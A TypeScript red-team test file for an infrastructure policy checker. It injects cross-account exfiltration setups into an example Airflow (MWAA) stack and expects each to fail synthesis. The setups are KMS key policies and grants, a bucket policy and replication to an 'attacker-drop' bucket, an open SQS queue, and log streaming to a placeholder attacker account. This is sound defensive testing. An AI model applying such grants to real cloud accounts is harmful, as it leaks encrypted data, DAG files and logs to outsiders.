import { at, attack, policyText, refTo, stackOf } from "./attack";

/**
 * Data leaves to another account without any "*": a key or bucket policy naming the account (or a
 * "*" narrowed to it), a KMS grant, a queue policy, S3 replication, a log subscription. Each
 * synthesizes with exit 0 and no rule names it in REVIEW.md today.
 */
const ATTACKER = "999999999999";
const ROOT = { Sid: "AccountAdministration", Effect: "Allow", Principal: { AWS: "arn:aws:iam::111122223333:root" }, Action: "kms:*", Resource: "*" };

describe("red team: grants to another account fail the synth", () => {
  it("a key policy that lets another account decrypt with the environment key fails", async () => {
    const outcome = await attack((app) =>
      at(app, "example-mwaa/environment-key/key").addOverride(
        "policy",
        policyText(ROOT, { Sid: "Partner", Effect: "Allow", Principal: { AWS: `arn:aws:iam::${ATTACKER}:root` }, Action: ["kms:Decrypt"], Resource: "*" }),
      ),
    );
    expect(outcome.violations).not.toEqual([]);
  });

  it("a DAG bucket policy Allow to '*' narrowed to another account's principals fails", async () => {
    const outcome = await attack((app) => {
      const bucketArn = refTo(app, "example-mwaa/dag-bucket/bucket", "arn");
      at(app, "example-mwaa/dag-bucket/policy").addOverride(
        "policy",
        policyText(
          { Sid: "DenyInsecureTransport", Effect: "Deny", Principal: "*", Action: "s3:*", Resource: [bucketArn, `${bucketArn}/*`], Condition: { Bool: { "aws:SecureTransport": "false" } } },
          { Sid: "Partner", Effect: "Allow", Principal: "*", Action: ["s3:GetObject"], Resource: `${bucketArn}/*`, Condition: { StringEquals: { "aws:PrincipalAccount": ATTACKER } } },
        ),
      );
    });
    expect(outcome.violations).not.toEqual([]);
  });

  it("an aws_kms_grant of the environment key to another account fails", async () => {
    const outcome = await attack((app) =>
      stackOf(app, "example-mwaa").addOverride("resource.aws_kms_grant.partner", {
        key_id: refTo(app, "example-mwaa/environment-key/key", "key_id"),
        grantee_principal: `arn:aws:iam::${ATTACKER}:root`,
        operations: ["Decrypt", "GenerateDataKey"],
      }),
    );
    expect(outcome.violations).not.toEqual([]);
  });

  it("an SQS queue policy that allows '*' to send and receive fails", async () => {
    const outcome = await attack((app) => {
      const mwaa = stackOf(app, "example-mwaa");
      mwaa.addOverride("resource.aws_sqs_queue.outbox", { name: "outbox", kms_master_key_id: refTo(app, "example-mwaa/environment-key/key", "arn") });
      mwaa.addOverride("resource.aws_sqs_queue_policy.outbox", {
        queue_url: "${aws_sqs_queue.outbox.id}",
        policy: policyText({ Effect: "Allow", Principal: "*", Action: ["sqs:SendMessage", "sqs:ReceiveMessage"], Resource: "${aws_sqs_queue.outbox.arn}" }),
      });
    });
    expect(outcome.violations).not.toEqual([]);
  });

  it("replicating the DAG bucket to another account's bucket fails", async () => {
    const outcome = await attack((app) =>
      stackOf(app, "example-mwaa").addOverride("resource.aws_s3_bucket_replication_configuration.out", {
        bucket: refTo(app, "example-mwaa/dag-bucket/bucket", "id"),
        role: "arn:aws:iam::111122223333:role/replicator",
        rule: [{ id: "all", status: "Enabled", destination: { bucket: "arn:aws:s3:::attacker-drop", account: ATTACKER } }],
      }),
    );
    expect(outcome.violations).not.toEqual([]);
  });

  it("a subscription filter streaming the Task logs to another account's destination fails", async () => {
    const outcome = await attack((app) =>
      stackOf(app, "example-mwaa").addOverride("resource.aws_cloudwatch_log_subscription_filter.out", {
        name: "out",
        log_group_name: refTo(app, "example-mwaa/log-groups/Task", "name"),
        filter_pattern: "",
        destination_arn: `arn:aws:logs:eu-west-1:${ATTACKER}:destination:drop`,
      }),
    );
    expect(outcome.violations).not.toEqual([]);
  });
});
